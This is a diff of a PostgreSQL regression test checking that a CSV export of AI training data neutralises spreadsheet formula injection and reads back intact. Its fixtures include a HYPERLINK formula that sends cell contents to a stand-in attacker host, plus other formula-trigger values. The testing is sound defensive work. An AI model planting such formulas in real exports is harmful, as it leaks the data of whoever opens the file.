@@ -105,9 +105,38 @@ VALUES ('=HYPERLINK("https://attacker.example/?d="&A1,"ver")', 'greeting', '=1+1
        ('+34 600 000 000', 'greeting', '-', 90, 'formula', now() - interval '50 seconds'),
        ('-2+3', 'greeting', '@SUM(A1:A2)', 90, 'formula', now() - interval '40 seconds'),
        (E'\t=1', 'greeting', E'\r=2', 90, 'formula', now() - interval '30 seconds'),
-       ('hola = adiós, +1 @todos', '=greeting', 'ok', 90, 'formula', now() - interval '20 seconds');
+       ('hola = adiós, +1 @todos', '=greeting', 'ok', 90, 'formula', now() - interval '20 seconds'),
+       -- a text that starts with a quote gets one more: 0.3.1 wrote '-5 for
+       -- both this message and -5, and no reader could tell them apart
+       ('''-5', 'greeting', '''=1', 90, 'formula', now() - interval '15 seconds'),
+       ('-5', 'greeting', '=1', 90, 'formula', now() - interval '14 seconds'),
+       ('''quoted'' words', 'greeting', 'ok', 90, 'formula', now() - interval '13 seconds');
 SELECT regexp_replace(substr(l, 38), ',[^,]*$', '') AS neutralised_line
 FROM export_training_dataset('csv') l WHERE l LIKE '%formula%' OR l LIKE '%@cat%';
+-- Read back the documented way (a CSV reader, then one leading quote removed
+-- from each text field that starts with one), every text is the stored one.
+TRUNCATE csv_back;
+DO $$
+DECLARE
+    v_oid oid;
+    v_path text := '/tmp/pg_intent_ops_export_' || pg_backend_pid() || '.csv';
+BEGIN
+    SELECT lo_from_bytea(0, convert_to(string_agg(l, E'\r\n') || E'\r\n', 'UTF8')) INTO v_oid
+    FROM export_training_dataset('csv') l;
+    PERFORM lo_export(v_oid, v_path);
+    PERFORM lo_unlink(v_oid);
+    EXECUTE format('COPY csv_back FROM PROGRAM %L WITH (FORMAT csv, HEADER true)',
+                   'cat ' || v_path || ' && rm -f ' || v_path);
+END $$;
+CREATE FUNCTION pg_temp.unquote(p text) RETURNS text LANGUAGE sql IMMUTABLE
+RETURN CASE WHEN left(p, 1) = '''' THEN substr(p, 2) ELSE p END;
+SELECT count(*) AS formula_rows,
+       count(*) FILTER (WHERE pg_temp.unquote(b.text) = d.user_message
+                          AND pg_temp.unquote(b.intent) = d.detected_intent
+                          AND pg_temp.unquote(b.response) = d.ai_response
+                          AND pg_temp.unquote(b.category) = d.category) AS texts_read_back
+FROM csv_back b JOIN ai_training_data d ON d.id = b.id
+WHERE d.category IN ('formula', '@cat');
 DELETE FROM ai_training_data WHERE category IN ('formula', '@cat');
 
 -- Errors.
